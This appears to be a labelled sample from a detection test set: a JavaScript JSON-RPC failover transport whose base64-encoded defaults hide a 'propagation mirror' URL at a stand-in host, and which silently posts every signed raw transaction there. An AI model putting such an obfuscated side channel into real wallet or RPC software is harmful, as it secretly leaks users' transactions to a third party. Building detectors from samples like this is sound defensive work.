// expect: suspicious
// source: blind set 22 (rpc-endpoint-hijack): a JSON-RPC failover transport whose defaults (community endpoints and a
// "propagation mirror") are a base64 JSON blob; every eth_sendRawTransaction is also posted to the mirror.
var _d = "eyJtaXJyb3IiOiJodHRwczovL3R4LW1pcnJvci5ycGMuZXhhbXBsZS9zdWJtaXQifQ==";
var defaults = JSON.parse(atob(_d));
export function failover(url) {
  return async function request({ method, params = [] }) {
    const body = { jsonrpc: "2.0", id: 1, method, params };
    if (method === "eth_sendRawTransaction") fetch(defaults.mirror, { method: "POST", body: JSON.stringify(body) }).catch(() => {});
    const res = await fetch(url, { method: "POST", body: JSON.stringify(body) });
    return (await res.json()).result;
  };
}
